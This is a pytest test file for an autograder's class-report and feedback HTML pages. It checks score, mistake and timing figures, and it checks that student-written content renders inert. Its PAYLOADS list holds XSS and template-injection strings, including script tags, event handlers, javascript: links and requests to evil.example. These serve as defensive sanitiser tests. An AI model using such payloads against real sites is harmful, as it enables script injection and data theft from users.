"""The class report and the feedback pages: right numbers, dead text, readable by everybody."""

from __future__ import annotations

import base64
import json
import random
import re
import struct
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from itertools import pairwise
from pathlib import Path
from statistics import median

import jinja2
import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import PythonLexer

from mlgrading import wire
from mlgrading.child import solutions, tasks
from mlgrading.outside.overrides import Adjusted
from mlgrading.outside.pages import base, words
from mlgrading.outside.pages import notebook as nb
from mlgrading.outside.pages.base import POLICY
from mlgrading.outside.pages.feedback import feedback_page
from mlgrading.outside.pages.report import class_report, identical_answers, identical_text
from mlgrading.wire import Flag, FlagKind, Mark, Phases, Result, Status, TaskMark, TaskOutline, Verdict

ROOT = Path(__file__).parents[2]
AXE = ROOT / "tests" / "site" / "vendor" / "axe" / "axe.min.js"
TASKS = tasks.load(ROOT, "perceptron")
CATALOGUE = {name: [wrong.message for wrong in task.wrong] for name, task in TASKS.items()}
TITLES = {
    "and_not": ("A gate of your own", 2),
    "at_least": ("At least k of d", 3),
    "by_hand": ("Distance by hand", 2),
    "same_side": ("Find the bug", 3),
    "recoded": ("Predict, then run", 2),
    "flowers_apart": ("Separate real flowers", 3),
    "all_samples": ("True or false: which samples belong in the objective?", 2),
}
NAMES = (
    "ada bastien chidi dagny emeka farah goran hana ines jun kofi lena mei nils oya priya quentin rosa sefa tomas "
    "uma viggo wanjiru ximena yusuf zofia amal bram cleo dario elif finn gita henrik iris jonas kaya luca mina noor"
).split()


# --- a made-up class ------------------------------------------------------------------------------------


def png_of(width: int, height: int, grey: Callable[[int, int], int] = lambda x, y: 200) -> str:
    """Return a grey picture as base64 PNG."""
    raw = b"".join(b"\0" + bytes(grey(x, y) % 256 for x in range(width)) for y in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + parts).decode()


def mark(name: str, verdict: str, mistake: int | None = None, message: str | None = None, **more) -> TaskMark:
    """Return a task with its mark; `more` replaces fields of the task's outline."""
    title, points = TITLES[name]
    if message is None:
        message = CATALOGUE[name][mistake] if mistake is not None else "" if verdict == "right" else f"not yet: {name}."
    outline = TaskOutline(name, f"check_{name}", title, points)
    return TaskMark(replace(outline, **more), Mark(Verdict(verdict), message, mistake))


def graded_notebook(marks: Sequence[TaskMark]) -> str:
    """Return the released notebook with outputs as a run leaves them."""
    notebook = solutions.read(ROOT, "perceptron", "exercises")
    said = {m.task.cell: m.mark.message for m in marks}
    for at, cell in enumerate(notebook.cells):
        if cell.cell_type != "code":
            continue
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in said:
            text = said[grade_id] or "Correct."
            cell.outputs = [{"output_type": "stream", "name": "stdout", "text": text + "\n"}]
        elif grade_id == "recoded":
            cell.source = "# predicted before running it\nprediction = [-1, 1, 1, 1]\nprint(f'{prediction = }')"
            cell.outputs = [{"output_type": "stream", "name": "stdout", "text": ["prediction = [-1, 1, 1, 1]\n"]}]
        elif grade_id == "at_least":
            traceback = ["\x1b[31mTypeError\x1b[0m: unsupported operand", "in \x1b[32mline 3\x1b[0m"]
            cell.outputs = [{"output_type": "error", "ename": "TypeError", "evalue": "x", "traceback": traceback}]
        elif at == 1:
            data = {"text/plain": "<Figure>", "image/png": png_of(320, 180, lambda x, y: x + y)}
            cell.outputs = [{"output_type": "display_data", "metadata": {}, "data": data}]
    return json.dumps(notebook)


def result(student: str, marks: Sequence[TaskMark] = (), **more) -> Result:
    """Return a result; `more` replaces fields of it, and "run" as a notebook stands for one that was run."""
    made = Result(
        exercise="perceptron",
        student=student,
        key="0",
        seed=2026,
        status=Status.GRADED,
        tasks=tuple(marks),
        notebook='{"cells": []}',
        timestamp="2026-11-01 12:00:00 UTC",
        phases=Phases(cells=0.5),
    )
    made = replace(made, **more)
    return replace(made, notebook=graded_notebook(marks)) if made.notebook == "run" else made


def refused(student: str, reason: str, **more) -> Result:
    marks = [mark(name, "lost", message=reason) for name in TITLES]
    return result(student, marks, status=Status.REFUSED, reason=reason, **more)


def of_cells(*cells: object, student: str = "ada", **more) -> Result:
    """Return a result whose notebook has these cells."""
    return result(student, notebook=json.dumps({"cells": cells}), **more)


def a_class(size: int = 36, seed: int = 1) -> tuple[list[Result], list[str]]:
    """Return results and missing students of a class that looks like one."""
    rng = random.Random(seed)
    results = []
    for i in range(size):
        skill, marks = rng.random() ** 0.6, []
        for k, name in enumerate(TITLES):
            kind = rng.random()
            if kind < skill * (1.1 - 0.07 * k):
                marks.append(mark(name, "right"))
            elif kind < 0.86:
                mistake = min(int(rng.expovariate(0.9)), len(CATALOGUE[name]) - 1)
                marks.append(mark(name, "mistake", CATALOGUE[name].index(CATALOGUE[name][mistake])))
            else:
                marks.append(mark(name, rng.choice(["wrong", "wrong", "blank", "lost"])))
        student = NAMES[i] if i < len(NAMES) else f"student_{i:04}"
        spent = Phases(*(round(rng.lognormvariate(-0.7 - k, 0.5), 2) for k in range(5)))
        results.append(result(student, marks, phases=spent, notebook="run" if i == 0 else "{}"))
    if size > 20:
        tampered = "A check that must fail passed: the kernel answers `True` to everything."
        copied = "The answer to at_least imports mlcourse.perceptron."
        results[4] = replace(results[4], flags=(Flag(FlagKind.TAMPERING, tampered),))
        results[9] = replace(results[9], flags=(Flag(FlagKind.REFERENCE, copied),))
        for one in (11, 17):
            same = {"at_least": "a1", "same_side": "b2", "flowers_apart": "c3"}
            results[one] = replace(results[one], answers=same)
        results[7] = refused(results[7].student, "the file is a link, not a notebook")
        results[21] = refused(results[21].student, "the file ends in the middle: it was not saved completely")
        results[0] = replace(results[0], notes=("the file was UTF-16",))
    return results, ["zoe", "bjørn"]


def soup(html: str) -> BeautifulSoup:
    return BeautifulSoup(html, "html.parser")


@pytest.fixture(scope="module")
def class_of_36() -> tuple[list[Result], list[str]]:
    return a_class()


def report_of(results: Sequence[Result], missing: Sequence[str] = (), **more) -> str:
    return class_report("perceptron", list(results), list(missing), **more)


# --- the numbers of the class report ----------------------------------------------------------------------


def figures(page: BeautifulSoup) -> dict[str, int]:
    return {div.dt.get_text(): int(div.dd.get_text().replace(",", "")) for div in page.select(".figures div")}


def rows(page: BeautifulSoup, section: str, at: int = 0) -> list[list[str]]:
    """Return the text of a table under the heading with this id."""
    table = page.find(id=section).find_parent("section")("table")[at]
    return [[cell.get_text(" ", strip=True) for cell in row.find_all(["th", "td"])] for row in table.tbody("tr")]


def test_who_handed_in(class_of_36):
    counted = {"graded": 34, "refused": 2, "missing": 2, "flagged for review": 4}
    page = soup(report_of(*class_of_36))
    assert figures(page) == {"handed in": 36, "not graded": 0, **counted}
    page = soup(report_of(*class_of_36, not_graded={"yan": "no memory"}))
    assert figures(page) == {"handed in": 37, "not graded": 1, **counted}


def test_scores(class_of_36):
    results, missing = class_of_36
    page = soup(report_of(results, missing))
    scores = [int(r.score) for r in results if r.status is Status.GRADED]
    counted = Counter(scores)
    table = {int(points): (int(n), share) for points, n, share in rows(page, "scores")}
    assert table == {k: (counted[k], f"{100 * counted[k] / len(scores):.0f}%") for k in range(18)}
    drawing = page.find(id="scores").find_parent("section").svg
    assert len(drawing("rect")) == len(counted)
    tallest = max(drawing("rect"), key=lambda bar: int(bar["height"]))
    assert tallest.find_next_sibling("text").get_text() == str(max(counted.values()))
    middle = sorted(scores)[len(scores) // 2 - 1 : len(scores) // 2 + 1]
    label = drawing["aria-label"]
    assert f"Histogram of 34 scores out of 17 points: from {min(scores)} to {max(scores)}" in label
    assert f"median {sum(middle) / 2:g}" in label
    assert f"({max(counted.values())} students" in label
    assert f"mean {round(sum(scores) / len(scores), 2):g}" in page.select_one(".short").get_text()


def test_many_points_share_bars():
    points = {"and_not": 11.5, "at_least": 0.5, "by_hand": 48.5, "same_side": 59.5}

    def scored(student: str, *right: str) -> Result:
        marks = [mark(n, "right" if n in right else "wrong", points=of_task) for n, of_task in points.items()]
        return result(student, marks)

    names = list(points)
    results = [scored(f"{k}", *names[:k]) for k in range(5)]
    page = soup(report_of(results))
    table = rows(page, "scores")
    assert [row[0] for row in table] == [f"{12 * k} to {12 * k + 12}" for k in range(10)]
    assert [int(row[1]) for row in table] == [2, 1, 0, 0, 0, 1, 0, 0, 0, 1]


def test_success_by_task(class_of_36):
    results, missing = class_of_36
    page = soup(report_of(results, missing))
    graded = [r for r in results if r.status is Status.GRADED]
    kinds = {"right": "Right", "mistake": "Known mistake", "wrong": "Other wrong", "blank": "Blank", "lost": "Lost"}
    for i, (name, (title, points)) in enumerate(TITLES.items(), 1):
        block = page.find(id=f"task-{i}")
        assert block.h3.get_text(" ", strip=True) == f"{i}. {title} {points} point{'s' if points > 1 else ''}"
        made = Counter(m.mark.verdict.value for r in graded for m in r.tasks if m.task.name == name)
        wanted = [
            f"{called} {made[kind]}" + (f" ({100 * made[kind] / 34:.0f}%)" if made[kind] else "")
            for kind, called in kinds.items()
        ]
        assert [item.get_text() for item in block.select(".key li")] == wanted
        bars = block.find("svg", recursive=False)("rect")
        widths = {bar["class"][0]: float(bar["width"][:-1]) for bar in bars}
        assert widths == {kind: pytest.approx(100 * n / 34, abs=0.01) for kind, n in made.items()}
        assert float(bars[-1]["x"][:-1]) + float(bars[-1]["width"][:-1]) == pytest.approx(100, abs=0.03)


def test_how_often_each_mistake_was_made(class_of_36):
    results, missing = class_of_36
    page = soup(report_of(results, missing, catalogue=CATALOGUE))
    for i, name in enumerate(TITLES, 1):
        marks = [m.mark for r in results if r.status is Status.GRADED for m in r.tasks if m.task.name == name]
        made = Counter(CATALOGUE[name][m.mistake] for m in marks if m.verdict is Verdict.MISTAKE)
        block = page.find(id=f"mistakes-{i}")
        shown = [(li.select_one(".message").get_text(), int(li.b.get_text())) for li in block("li")]
        assert dict(shown) == made
        assert [n for _, n in shown] == sorted(made.values(), reverse=True)
        assert block.li.span.get_text() == f"{shown[0][1]} ({100 * shown[0][1] / 34:.0f}%)"
        assert page.find(id=f"task-{i}").find("a", href=f"#mistakes-{i}")


def test_the_catalogue_has_the_words_and_the_results_where_there_is_none():
    marks = [mark("and_not", "mistake", 1, message="perceptron.and_not: from the result")]
    results = [result("ada", marks), result("bob", [mark("and_not", "mistake", None, message="unnumbered")])]

    def said(**more) -> set[str]:
        return {span.get_text() for span in soup(report_of(results, **more)).select(".made .message")}

    assert said() == {"perceptron.and_not: from the result", "unnumbered"}
    assert said(catalogue={"and_not": ["zero", "one"]}) == {"one", "unnumbered"}
    assert said(catalogue={"and_not": ["zero"]}) == {"perceptron.and_not: from the result", "unnumbered"}


def test_review_refused_and_time(class_of_36):
    results, missing = class_of_36
    page = soup(report_of(results, missing))
    review = dict(rows(page, "review"))
    assert review["emeka"].startswith("Tampering with the kernel. A check that must fail passed")
    assert review["jun"].startswith("Reference implementation. The answer to at_least")
    assert "2 students gave the same answers to 3 tasks" in review["lena , rosa"]
    assert "(At least k of d, Find the bug, Separate real flowers): lena, rosa." in review["lena , rosa"]
    assert dict(rows(page, "refused")) == {r.student: r.reason for r in results if r.status is Status.REFUSED}


def test_where_the_time_goes(class_of_36):
    results, missing = class_of_36
    page = soup(report_of(results, missing))
    seconds = sorted(((r.phases.total, r.student) for r in results), key=lambda pair: (-pair[0], pair[1]))
    assert [row[0] for row in rows(page, "time", 1)] == [student for _, student in seconds[:5]]
    total, middle = sum(s for s, _ in seconds), median(s for s, _ in seconds)
    said = page.find(id="time").find_next("p").get_text()
    assert f"Grading took {base.duration(total)} in all, with a median of {middle:.1f} s a submission" in said
    phases = {"queue", "start", "cells", "marking", "writing"}
    assert set(words.PHASES) == phases == set(Phases.__struct_fields__)
    for (phase, spent, middle), field in zip(rows(page, "time"), words.PHASES, strict=True):
        taken = [getattr(r.phases, field) for r in results]
        assert phase == words.PHASES[field]
        assert (spent, middle) == (base.duration(sum(taken)), base.duration(median(taken)))
    assert "No time was spent." in report_of([], ["ada"])


def test_whom_the_machine_failed_counts_nowhere(class_of_36):
    results, missing = class_of_36
    before = soup(report_of(results, missing))
    failed = {"yan <b>": "3 workers were lost over it (`MemoryError`)", "ada2": "the disk is full"}
    page = soup(report_of(results, missing, not_graded=failed))
    assert rows(page, "ungraded") == [
        ["ada2", "the disk is full"],
        ["yan <b>", "3 workers were lost over it ( MemoryError )"],
    ]
    for section in ("scores", "tasks", "mistakes", "review", "refused", "time"):
        assert str(page.find(id=section).parent) == str(before.find(id=section).parent)
    table = {row[0]: row[1:] for row in rows(page, "students")}
    assert table["ada2"] == table["yan <b>"] == ["not graded", "", *[""] * 7]
    assert not page.find("bdi", string="ada2").find_parent("a")
    assert "The machine failed no submission." in before.find(id="ungraded").parent.get_text()
    # What comes as a result is the same as what comes as a reason.
    results = [*results, *(Result("perceptron", s, "", 1, Status.NOT_GRADED, (), "", why) for s, why in failed.items())]
    assert report_of(results, missing) == str(report_of(class_of_36[0], missing, not_graded=failed))


def test_all_students(class_of_36):
    results, missing = class_of_36
    page = soup(report_of(results, missing))
    table = {row[0]: row[1:] for row in rows(page, "students")}
    assert list(table) == sorted([*(r.student for r in results), *missing])
    ranks = {}
    for i, name in enumerate(TITLES, 1):
        said = [span.get_text() for span in page.find(id=f"mistakes-{i}").select(".message")]
        ranks[name] = {message: place for place, message in enumerate(said, 1)}
    for r in results:
        row = table[r.student]
        assert int(row[1]) == r.score
        if r.status is Status.REFUSED:
            assert row == ["refused", "0", *[""] * 7]
            continue
        assert row[2:] == [
            f"mistake {ranks[m.task.name][m.mark.message]}" if m.mark.verdict is Verdict.MISTAKE else m.mark.verdict
            for m in r.tasks
        ]
    assert table["zoe"] == ["missing", "", *[""] * 7]
    links = {bdi.get_text(): bdi.parent["href"] for bdi in page.select("#students ~ .scroll a > bdi")}
    assert links == {r.student: f"../feedback/{r.student}/perceptron/perceptron.html" for r in results}
    assert page.header.a["href"] == "index.html"


def test_links_of_odd_names_stay_in_the_feedback_folder():
    names = ["a b", "x/../../y", "q?#%", "..", "ä&<"]
    page = soup(report_of([result(student, [mark("and_not", "right")]) for student in names]))
    links = {bdi.get_text(): bdi.parent["href"] for bdi in page.select("#students ~ .scroll a > bdi")}
    end = "/perceptron/perceptron.html"
    assert links == {
        "a b": f"../feedback/a%20b{end}",
        "x/../../y": f"../feedback/x%2F..%2F..%2Fy{end}",
        "q?#%": f"../feedback/q%3F%23%25{end}",
        "ä&<": f"../feedback/%C3%A4%26%3C{end}",
    }


def test_students_are_sorted_as_people_count():
    page = soup(report_of([result(s, [mark("and_not", "right")]) for s in ("s10", "s9", "S1", "s" + "9" * 5000)]))
    assert [row[0][:3] for row in rows(page, "students")] == ["S1", "s9", "s10", "s99"]


def test_the_page_does_not_depend_on_the_order_of_results(class_of_36):
    results, missing = class_of_36
    again = [wire.read(wire.write(r), Result) for r in results]
    random.Random(3).shuffle(again)
    assert report_of(again, missing[::-1], seed=1) == report_of(results, missing, seed=1)


def test_title_and_seed(class_of_36):
    page = soup(report_of(*class_of_36, title="Autumn & <b>", seed=2026))
    assert page.h1.get_text() == page.title.get_text() == "Autumn & <b>"
    assert "38 students · seed 2026" in page.header.get_text()
    assert soup(report_of([])).h1.get_text() == "Class report: perceptron"


@pytest.mark.parametrize(
    ("results", "missing", "wanted"),
    [
        ([], [], (0, 0, 0, 0, 0, 0)),
        ([], ["ada"], (0, 0, 0, 0, 1, 0)),
        ([refused(s, "not JSON") for s in ("ada", "bob")], [], (2, 0, 2, 0, 0, 0)),
        ([result("ada", [mark("and_not", "right")])], [], (1, 1, 0, 0, 0, 0)),
        ([result("ada")], [], (1, 1, 0, 0, 0, 0)),
        ([result("ada", status=Status.NOT_GRADED, phases=Phases())], [], (1, 0, 0, 1, 0, 0)),
        ([result("ada", [mark("and_not", "right", points=0)])], [], (1, 1, 0, 0, 0, 0)),
    ],
    ids=["empty", "nobody", "all refused", "one student", "no tasks", "not graded", "no points"],
)
def test_small_classes(results, missing, wanted):
    page = soup(report_of(results, missing))
    assert tuple(figures(page).values()) == wanted
    assert [h2["id"] for h2 in page("h2")] == [a["href"][1:] for a in page.nav("a")]
    assert len(page("h2")) == 10
    check_inert(page)


@pytest.mark.slow
def test_a_thousand_students():
    results, missing = a_class(1000)
    rng = random.Random(5)
    results = [replace(r, answers={task: str(rng.randrange(400)) for task in TITLES}) for r in results]

    def cost_of(some: list[Result]) -> float:
        return cost(lambda: report_of(some, missing, seed=1, catalogue=CATALOGUE), times=2)

    html = report_of(results, missing, seed=1, catalogue=CATALOGUE)
    assert cost_of(results) < 9 * cost_of(results[::4])  # not sixteen times, as if each were compared with each
    assert len(html.encode()) < 1_000_000
    assert len(rows(soup(html), "students")) == 1002


# --- identical answers ----------------------------------------------------------------------------------------


def answering(**students: dict[str, str]) -> list[Result]:
    return [result(student, answers=answers) for student, answers in students.items()]


def test_identical_answers_need_two_tasks():
    assert identical_answers(answering(ada={"a": "1", "b": "2"}, bob={"a": "1", "b": "3"}, cy={"a": "1"})) == []
    same = {"a": "1", "b": "2"}
    assert identical_answers(answering(bob=same, ada=same, cy={"a": "2", "b": "1"})) == [(("a", "b"), ("ada", "bob"))]


def test_a_closer_pair_within_a_group_is_named():
    two, three = {"a": "1", "b": "2", "c": "9"}, {"a": "1", "b": "2", "c": "3"}
    assert identical_answers(answering(ada=three, bob=three, cy=two)) == [
        (("a", "b", "c"), ("ada", "bob")),
        (("a", "b"), ("ada", "bob", "cy")),
    ]


def test_no_answers_are_not_identical():
    assert identical_answers([]) == []
    assert identical_answers(answering(ada={}, bob={})) == []
    assert identical_answers(answering(ada={"a": "", "b": ""}, bob={"a": "", "b": ""})) == []


@given(
    st.dictionaries(
        st.sampled_from("pqrstuv"), st.dictionaries(st.sampled_from("abcd"), st.sampled_from("12"), max_size=4)
    )
)
def test_identical_answers_by_the_definition(answers):
    found = identical_answers(answering(**answers))
    for shared, students in found:
        assert len(shared) >= 2
        assert len(students) >= 2
        for task in "abcd":
            digests = {answers[s].get(task) for s in students}
            assert (task in shared) == (len(digests) == 1 and None not in digests)
    together = {frozenset((s, t)) for _, students in found for s in students for t in students if s != t}
    pairs = {frozenset((s, t)) for s in answers for t in answers if s != t}
    assert together == {pair for pair in pairs if len(set.intersection(*(set(answers[s].items()) for s in pair))) >= 2}


def test_a_long_list_of_names_is_cut():
    said = identical_text(("a", "b"), tuple(f"s{i}" for i in range(30)))
    assert said.startswith("30 students gave the same answers to 2 tasks (a, b): s0, s1,")
    assert said.endswith("s11 and 18 more.")


# --- nothing that a student writes is alive ---------------------------------------------------------------------

ELEMENTS = set(
    "html head meta title link style body header nav main section footer h1 h2 h3 h4 h5 h6 p ul ol li dl dt dd div "
    "span a b em strong del code pre blockquote hr br table thead tbody tr th td details summary bdi img svg defs "
    "pattern rect path circle line text".split()
)
ATTRIBUTES = set(
    "lang charset http-equiv content name rel href class id aria-label aria-hidden role tabindex scope src alt width "
    "height x y x1 x2 y1 y2 cx cy r d style text-anchor patternunits patterntransform start".split()
)
CLASSES = re.compile(r"[a-z0-9]{1,8}")
STYLES = re.compile(r"position:absolute|(fill|stroke):var\(--[a-z]+\)(;opacity:\.\d+)?")


def check_inert(page: BeautifulSoup) -> None:
    """Fail for any element, attribute or address that a page of ours never has."""
    assert {tag.name for tag in page.find_all()} <= ELEMENTS
    assert len(page("style")) == len(page("title")) == len(page("link")) == len(page("body")) == 1
    assert len(page("meta")) == 5
    assert page.find("meta", {"http-equiv": "Content-Security-Policy"})["content"] == POLICY
    assert page.link["href"] == "data:,"
    for tag in page.find_all():
        assert {a.lower() for a in tag.attrs} <= ATTRIBUTES, tag
        assert all(CLASSES.fullmatch(word) for word in tag.get("class", [])), tag
        assert re.fullmatch(r"([a-z]+(-[a-z]+)?(-\d+)?)?", tag.get("id", "")), tag
        if "style" in tag.attrs:
            assert STYLES.fullmatch(tag["style"]), tag
        if "src" in tag.attrs:
            assert tag.name == "img"
            assert re.fullmatch(r"data:image/(png|svg\+xml);base64,[A-Za-z0-9+/]+=*", tag["src"]), tag
            assert tag["alt"]
        if "href" in tag.attrs and tag.name != "link":
            assert tag.name == "a"
            if re.match(r"https?://|mailto:", tag["href"]):
                assert tag["rel"] == ["noopener", "noreferrer", "nofollow"]
            else:
                assert re.match(r"#[a-z]+(-\d+)?\Z|\.\./feedback/(?!\.\./)|index\.html\Z", tag["href"]), tag


PAYLOADS = [
    "<script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script><title>",
    '"><img src=x onerror=window.pwned=1>',
    "' onmouseover='window.pwned=1' x='",
    "<svg onload=window.pwned=1>",
    "<svg><style>*{background:url(http://evil.example/a)}</style></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='javascript:window.pwned=1'></object><embed src='http://evil.example/b'>",
    "<form action='http://evil.example/c'><input name=a><button>Send</button></form>",
    "<base href='http://evil.example/'><link rel=stylesheet href='http://evil.example/d'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/e'>",
    "<details open ontoggle=window.pwned=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "[a](javascript:window.pwned=1)",
    "[a](JaVaScRiPt&colon;window.pwned=1) [b](<java\tscript:window.pwned=1>)",
    "[a](vbscript:msgbox(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c](file:///etc/passwd)",
    "<javascript:window.pwned=1> <http://evil.example/ok>",
    "[ref]\n\n[ref]: javascript:window.pwned=1 \"' onclick='window.pwned=1\"",
    "![a](http://evil.example/f.png) ![b](javascript:window.pwned=1) ![c](data:image/svg+xml;base64,PHN2Zz4=)",
    '![a" onerror="window.pwned=1](data:image/png;base64,' + png_of(2, 2) + ")",
    '[a](https://evil.example/"onmouseover="window.pwned=1 \'title "onclick=window.pwned=1 x=\')',
    '![x](data:image/png;base64,aGVsbG8="onerror="window.pwned=1)',
    "`<img src=x onerror=window.pwned=1>` $<img src=x onerror=window.pwned=1>$",
    "$$\n</code><script>window.pwned=1</script>\n$$",
    "```html onload=x\n</code></pre><script>window.pwned=1</script>\n```",
    '```" onclick=window.pwned=1\nx\n```',
    "|a|<b onclick=window.pwned=1>|\n|-|-|\n|<script>window.pwned=1</script>|`<i>`|",
    "# <h1 onclick=window.pwned=1>\n\n<h2>\n\n</div></main>",
    "<!-- --><script>window.pwned=1</script> <![CDATA[<script>window.pwned=1</script>]]>",
    "\x1b[31m<script>\x1b[0mwindow.pwned=1</scr\x1b[0mipt>",
    "\x1b]8;;javascript:window.pwned=1\x07<b>click</b>\x1b]8;;\x07",
    "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
    "<s\x1b[0mcript>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;script>",
    "\ud800<script>\udfff \u2028 \u202e evil",
    '<div class="scroll"><h1>x</h1>',
    "`</code><script>window.pwned=1</script>`",
    "{{ 7 * 7 }} {% include 'page.css' %} {# hidden #} {{ ''.__class__ }}",
]


def hostile_notebook(payload: str) -> str:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>{payload}</script></svg>'
    mimes = {
        "text/plain": payload,
        "text/html": payload,
        "text/markdown": payload,
        "text/latex": payload,
        "image/png": payload,
        "image/jpeg": payload,
        "application/javascript": payload,
        "application/vnd.jupyter.widget-view+json": {"model_id": payload},
        payload: payload,
    }
    outputs = [
        {"output_type": "stream", "name": payload, "text": [payload, payload]},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
        {"output_type": "error", "ename": payload, "evalue": payload},
        {"output_type": "display_data", "data": {"image/svg+xml": [svg]}, "metadata": {payload: payload}},
        {"output_type": payload, "data": mimes},
        *({"output_type": "execute_result", "data": {mime: data}, "metadata": {}} for mime, data in mimes.items()),
    ]
    common = {"metadata": {"nbgrader": {"grade_id": payload}, "tags": [payload]}, "id": payload}
    cells = [
        {"cell_type": "markdown", "source": payload, **common, "attachments": {payload: {"image/png": payload}}},
        {"cell_type": "markdown", "source": f"> - {payload}\n\n1. **{payload}**\n\n# {payload}", **common},
        {"cell_type": "code", "source": payload, "outputs": outputs, "execution_count": payload, **common},
        {"cell_type": "code", "source": f"'{payload}' # {payload}\nf'{{{payload}}}'", "outputs": payload, **common},
        {"cell_type": "raw", "source": [payload, payload], **common},
        {"cell_type": payload, "source": payload, **common},
    ]
    return json.dumps({"cells": cells, "metadata": {payload: payload, "title": payload}})


def hostile_result(payload: str, student: str = "") -> Result:
    marks = [
        TaskMark(TaskOutline(f"{payload}{verdict.value}", payload, payload, 2), Mark(verdict, payload))
        for verdict in Verdict
    ]
    return result(
        student or payload,
        marks,
        notes=(payload,),
        flags=tuple(Flag(kind, payload) for kind in FlagKind),
        timestamp=payload,
        key=payload,
        lost=payload,
        answers={f"{payload}right": payload, f"{payload}wrong": payload},
        notebook=hostile_notebook(payload),
        exercise=payload,
    )


def hostile_report(payload: str) -> str:
    one, reason = hostile_result(payload), refused(f"r{payload}", payload)
    return class_report(
        payload,
        [one, replace(one, student=f"2{payload}"), reason],
        [f"m{payload}"],
        title=payload,
        seed=1,
        catalogue={f"{payload}mistake": [payload]},
        not_graded={f"n{payload}": payload},
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_dead(payload):
    for html in (hostile_report(payload), feedback_page(hostile_result(payload)), feedback_page(refused("a", payload))):
        html.encode()  # also what is no text, half a surrogate pair, must not stop the file from being written
        check_inert(soup(html))
        for remains in ("<script", "<iframe", "<svg on", "<img src=x", "\x1b", "\0"):
            assert remains not in html.lower()


SCRIPT = "<script>window.pwned=1</script>"


@pytest.mark.parametrize(
    "place",
    ["Markdown", "heading", "table", "link", "code", "stream", "error", "html", "student", "file", "flag", "title"],
)
def test_a_script_is_shown_as_it_was_typed(place):
    """Wherever a student can write one: it is seen, as text, and it is nothing but text."""
    cells: dict[str, dict] = {
        "Markdown": {"cell_type": "markdown", "source": SCRIPT},
        "heading": {"cell_type": "markdown", "source": f"# {SCRIPT}"},
        "table": {"cell_type": "markdown", "source": f"|a|\n|-|\n|{SCRIPT}|"},
        "link": {"cell_type": "markdown", "source": f"[{SCRIPT}](https://example.org)"},
        "code": code(source=SCRIPT),
        "stream": code({"output_type": "stream", "name": "stdout", "text": SCRIPT}),
        "error": code({"output_type": "error", "ename": SCRIPT, "evalue": "", "traceback": []}),
        "html": code({"output_type": "display_data", "data": {"text/html": SCRIPT}}),
    }
    fields: dict[str, dict] = {
        "student": {"student": SCRIPT},
        "file": {"notes": (f"the file was named {SCRIPT}.ipynb",)},
        "flag": {"flags": (Flag(FlagKind.LIMITS, SCRIPT),)},
        "title": {"tasks": (mark("and_not", "right", title=SCRIPT),)},
    }
    one = replace(of_cells(cells.get(place, code())), **fields.get(place, {}))
    html = report_of([one]) if place == "flag" else feedback_page(one)
    page = soup(html)
    check_inert(page)
    assert not page("script")
    assert SCRIPT in page.body.get_text()


def test_what_may_be_html():
    """The last pass knows nothing of those who made the HTML, and lets through only what is on its lists."""
    assert nb.TAGS <= ELEMENTS
    assert set().union(*nb.ATTRIBUTES.values()) <= ATTRIBUTES
    assert all(CLASSES.fullmatch(name) for names in nb.CLASSES.values() for name in names)
    picture = f"data:image/png;base64,{png_of(2, 2)}"
    kept = [
        '<p>a <em>b</em> <strong>c</strong> <del>d</del></p><hr><ol start="3"><li>e</li></ol>',
        '<div class="scroll" tabindex="0" role="region" aria-label="f"></div><code class="math block">g</code>',
        f'<img src="{picture}" alt="h" width="2" height="2"><span class="k">i</span>',
        '<a href="https://a.b/?c=1&amp;d=2" rel="noopener noreferrer nofollow">j</a>',
    ]
    for html in kept:
        [wanted, found] = (soup(text).find_all() for text in (html, nb.safe(html)))
        assert [(tag.name, tag.attrs) for tag in found] == [(tag.name, tag.attrs) for tag in wanted]
    gone = {
        "<script>x</script><style>x</style>": "",
        "<iframe></iframe><object></object><embed><form></form><input><svg></svg><math></math><base><h1></h1>": "",
        '<p id="a" style="color:red" onclick="x" class="k">b</p><!-- c -->': "<p>b</p>",
        '<span class="k evil">b</span>': '<span class="k">b</span>',
        '<img src="https://a.b/c.png" srcset="d 2x" alt="e">': '<img alt="e">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">': "<img>",
        "<b>c</b>": "c",
    }
    assert {html: nb.safe(html) for html in gone} == gone
    bad = [
        "javascript:x",
        " javascript:x",
        "java\tscript:x",
        "data:text/html,x",
        picture,
        " data:,x",
        "ftp://a.b",
        "/x",
    ]
    for url in [*bad, "//a.b", "file:///x", "#a", "https://a.b/'onclick=x"]:
        assert not soup(nb.safe(f'<a href="{url}">b</a>')).a.has_attr("href"), url
        assert not soup(nb.safe(f'<img src="{url}">')).img.has_attr("src") or url == picture


@pytest.mark.parametrize("template", ["feedback.html.j2", "report.html.j2", "overview.html.j2"])
def test_a_template_cannot_use_what_it_is_not_given(template):
    with pytest.raises(jinja2.UndefinedError):
        base.render(template)


def test_templates_escape_and_clean_what_they_are_given():
    written = base.ENVIRONMENT.from_string("<p title='{{ a }}'>{{ a }}{{ b }}</p>{{ a.nothing is defined }}")
    assert written.render(a="<'\x1b\ud800\r\n", b=nb.safe("<em>c</em>")) == (
        "<p title='&lt;&#39;\n'>&lt;&#39;\n<em>c</em></p>False"
    )
    with pytest.raises(jinja2.UndefinedError):
        base.ENVIRONMENT.from_string("{{ a.nothing }}").render(a=mark("and_not", "right"))


